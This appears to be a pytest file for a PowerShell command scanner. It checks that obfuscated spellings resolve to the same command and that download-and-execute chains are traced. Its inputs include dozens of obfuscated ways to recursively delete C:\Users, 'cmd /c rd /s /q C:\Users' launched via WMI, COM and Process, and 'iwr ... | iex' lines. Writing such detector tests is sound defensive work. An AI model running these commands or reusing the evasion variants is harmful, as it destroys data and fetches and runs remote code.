@@ -1,0 +1,176 @@
+"""Claims about what a PowerShell text comes to: names and paths fold, blocks run, made-up text is read again."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from chrono.scan.command import UNKNOWN, Evaluation, Pattern
+
+WIPE = ("Remove-Item", "C:\\Users", "-Recurse")
+
+SPELLINGS = [
+    "ri C:\\Users -r",
+    "del C:\\Users -Recurse",
+    "RM C:\\Users -RECURSE",
+    "Microsoft.PowerShell.Management\\Remove-Item C:\\Users -Recurse",
+    "R`emove-It`em C:\\Users -Rec`urse",
+    "& 'Remove-Item' C:\\Users -Recurse",
+    "& ('Remove' + '-Item') C:\\Users -Recurse",
+    "& ('{1}-{0}' -f 'Item', 'Remove') C:\\Users -Recurse",
+    "& ('meti-evomer'[-1..-11] -join '') C:\\Users -Recurse",
+    "& (Get-Command Rem*ve-It?m) C:\\Users -Recurse",
+    "& ('x', 'ri')[1] C:\\Users -Recurse",
+    "$c = 'Remove-Item'; & $c C:\\Users -Recurse",
+    "Set-Alias zap Remove-Item; zap C:\\Users -Recurse",
+    "$a = @{ Path = 'C:\\Users'; Recurse = $true }; Remove-Item @a",
+    "$a = 'C:\\Users', '-Recurse'; $p = $a[0]; ri $p -r",
+    "function f($x) { Remove-Item $x -Recurse }; f C:\\Users",
+    "function f { Remove-Item $args[0] -Recurse }; f 'C:\\Users'",
+    "filter f { Remove-Item $_ -Recurse }; 'C:\\Users' | f",
+    "class K { static [void] Go($p) { Remove-Item $p -Recurse } }; [K]::Go('C:\\Users')",
+    "$b = { Remove-Item C:\\Users -Recurse }; & $b",
+    "$b = { param($p) Remove-Item $p -Recurse }; $b.Invoke('C:\\Users')",
+    "'C:\\Users' | ForEach-Object { Remove-Item $_ -Recurse }",
+    "foreach ($p in @('C:\\Users')) { Remove-Item $p -Recurse }",
+    "for ($i = 0; $i -lt 1; $i++) { Remove-Item C:\\Users -Recurse }",
+    "if ($true) { Remove-Item C:\\Users -Recurse } else { Get-Date }",
+    "try { throw 'x' } catch { Remove-Item C:\\Users -Recurse }",
+    "$null = Remove-Item C:\\Users -Recurse",
+    "[void]$(Remove-Item C:\\Users -Recurse)",
+    '"$(Remove-Item C:\\Users -Recurse)" | Out-Null',
+    "Invoke-Expression 'Remove-Item C:\\Users -Recurse'",
+    "'Remove-Item C:\\Users -Recurse' | iex",
+    "iex ('Remove-XItem C:\\Users -Recurse' -replace 'X', '')",
+    "iex ('Remove-XItem C:\\Users -Recurse'.Replace('X', ''))",
+    "iex (('Remove-Item', 'C:\\Users', '-Recurse') -join ' ')",
+    "iex ([char]82 + 'emove-Item C:\\Users -Recurse')",
+    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gQzpcVXNlcnMgLVJlY3Vyc2U=')))",
+    "& ([scriptblock]::Create('Remove-Item C:\\Users -Recurse'))",
+    "$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item C:\\Users -Recurse')",
+    "[PowerShell]::Create().AddScript('Remove-Item C:\\Users -Recurse').Invoke()",
+    "Invoke-Command -ScriptBlock { Remove-Item $args[0] -Recurse } -ArgumentList C:\\Users",
+    "Start-Job { Remove-Item C:\\Users -Recurse }",
+    "[IO.Directory]::Delete('C:\\Users', $true)",
+    "(Get-Item C:\\Users).Delete($true)",
+    "[IO.DirectoryInfo]::new('C:\\Users').Delete($true)",
+    ". .\\lib.ps1; Wipe C:\\Users",
+]
+
+
+@pytest.mark.parametrize("text", SPELLINGS)
+def test_every_spelling_comes_to_the_same_command(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
+    assert WIPE in argvs(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "'Remove-Item C:\\Users -Recurse'",
+        "Write-Host 'Remove-Item C:\\Users -Recurse'",
+        "$x = 'Remove-Item C:\\Users -Recurse'; $x.Length",
+        "# Remove-Item C:\\Users -Recurse\nGet-Date",
+        "function f { Remove-Item C:\\Users -Recurse }",
+        "$b = { Remove-Item C:\\Users -Recurse }",
+        "@'\nRemove-Item C:\\Users -Recurse\n'@ | Set-Content notes.md",
+        "if ($false) { Remove-Item C:\\Users -Recurse }",
+        "Remove-Item C:\\Users -Recurse -WhatIf",
+        "$WhatIfPreference = $true; Remove-Item C:\\Users -Recurse",
+    ],
+)
+def test_text_that_does_not_run_is_no_command(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
+    assert not any(argv[0] == "Remove-Item" for argv in argvs(text))
+
+
+@pytest.mark.parametrize(
+    ("text", "path"),
+    [
+        ("Remove-Item $HOME", "/home/dev"),
+        ("Remove-Item ~\\x", "~\\x"),
+        ('Remove-Item "$env:USERPROFILE\\x"', "/home/dev\\x"),
+        ("Remove-Item (Join-Path $HOME 'a' )", "/home/dev/a"),
+        ("Remove-Item ([IO.Path]::Combine('C:\\a', 'b'))", "C:\\a\\b"),
+        ("Remove-Item ([Environment]::GetFolderPath('Desktop'))", "/home/dev/Desktop"),
+        ("$d = Split-Path $PWD; Remove-Item $d", "/home/dev"),
+        ("Get-ChildItem C:\\x | Remove-Item", "C:\\x/*"),
+        ("gci C:\\x -Filter *.log | ri", "C:\\x/*.log"),
+        ("gci C:\\x | ? Name -eq 'a.txt' | ri", "C:\\x/a.txt"),
+        ("gci C:\\x | ? { $_.Extension -eq '.tmp' } | % { ri $_.FullName }", "C:\\x/*.tmp"),
+        ("New-PSDrive -Name R -PSProvider FileSystem -Root C:\\x; Remove-Item R:\\a", "C:\\x/a"),
+        ('Remove-Item "C:\\$(1 + 1)"', "C:\\2"),
+        ("$x = if ($true) { 'C:\\a' } else { 'C:\\b' }; Remove-Item $x", "C:\\a"),
+        ('$x = 5; $x++; Remove-Item "C:\\$x"', "C:\\6"),
+        ("Remove-Item ('C:\\' + ('a','b','c' | Select-Object -First 3)[0])", "C:\\a"),
+    ],
+)
+def test_paths_fold(text: str, path: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
+    assert any(argv[:2] == ("Remove-Item", path) for argv in argvs(text)), argvs(text)
+
+
+def test_an_unknown_part_stays_unknown(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
+    assert argvs('Remove-Item "C:\\$x"') == [("Remove-Item", Pattern(("C:\\", None)))]
+    assert argvs("Remove-Item $x") == [("Remove-Item", UNKNOWN)]
+
+
+def test_branches_join(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
+    text = "$p = 'C:\\a'; if (Test-Path x) { $p = 'C:\\b' }; Remove-Item $p"
+    assert {argv[1] for argv in argvs(text) if argv[0] == "Remove-Item"} == {"C:\\a", "C:\\b"}
+
+
+def test_the_folder_is_followed(read: Callable[[str], Evaluation]) -> None:
+    found = read("Set-Location C:\\x; Remove-Item a; Push-Location D:\\; Remove-Item b; Pop-Location; Remove-Item c")
+    assert [c.cwd for c in found.commands if c.argv[0] == "Remove-Item"] == ["C:/x", "D:", "C:/x"]
+
+
+def test_what_comes_from_the_network_feeds_what_runs_it(read: Callable[[str], Evaluation]) -> None:
+    for text in (
+        "iwr https://x.example/a | iex",
+        "iex (irm https://x.example/a)",
+        "$s = (New-Object Net.WebClient).DownloadString('https://x.example/a'); iex $s",
+        "& ([scriptblock]::Create((iwr https://x.example/a).Content))",
+    ):
+        last = read(text).commands[-1]
+        assert last.argv[0] == "Invoke-Expression", text
+        assert any("https://x.example/a" in feed for feed in last.upstream), text
+
+
+def test_a_program_of_the_machine_keeps_its_arguments(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
+    assert argvs("git commit -m 'a b' --amend") == [("git", "commit", "-m", "a b", "--amend")]
+    assert argvs("cmd --% /c dir & echo") == [("cmd", "/c", "dir", "&", "echo")]
+    assert argvs("rm -rf build") == [("rm", "-rf", "build")]
+    assert argvs("curl -X POST http://x") == [("curl", "-X", "POST", "http://x")]
+
+
+def test_programs_are_started_by_whatever_starts_them(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
+    wanted = ("cmd", "/c", "rd", "/s", "/q", "C:\\Users")
+    for text in (
+        "Start-Process cmd -ArgumentList '/c rd /s /q C:\\Users'",
+        "Start-Process cmd '/c','rd','/s','/q','C:\\Users' -Wait",
+        "[Diagnostics.Process]::Start('cmd', '/c rd /s /q C:\\Users')",
+        "(New-Object -ComObject WScript.Shell).Run('cmd /c rd /s /q C:\\Users')",
+        "([wmiclass]'Win32_Process').Create('cmd /c rd /s /q C:\\Users')",
+        "$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName = 'cmd'; $i.Arguments = '/c rd /s /q C:\\Users'; "
+        "[Diagnostics.Process]::Start($i)",
+    ):
+        assert wanted in argvs(text), text
+
+
+def test_what_is_written_can_be_followed(read: Callable[[str], Evaluation]) -> None:
+    assert ("/home/dev/proj/x.ps1", "Get-Date") in read("'Get-Date' > x.ps1; .\\x.ps1").files
+    assert ("/home/dev/proj/x.ps1", "Get-Date") in read("[IO.File]::WriteAllText('x.ps1', 'Get-Date')").files
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        ("Remove-Item 'C:\\", "unparsed"),
+        ("(" * 5_000, "limit"),
+        ("a" * 70_000, "limit"),
+        ("function f { f }; f", "limit"),
+        ("$x = 'iex $x'; iex $x", "limit"),
+        ("1..2000 | % { 1..2000 | % { Get-Date } }", "limit"),
+    ],
+)
+def test_limits_and_faults_are_decisions(text: str, kind: str, read: Callable[[str], Evaluation]) -> None:
+    assert [refusal.kind for refusal in read(text).refusals] == [kind]
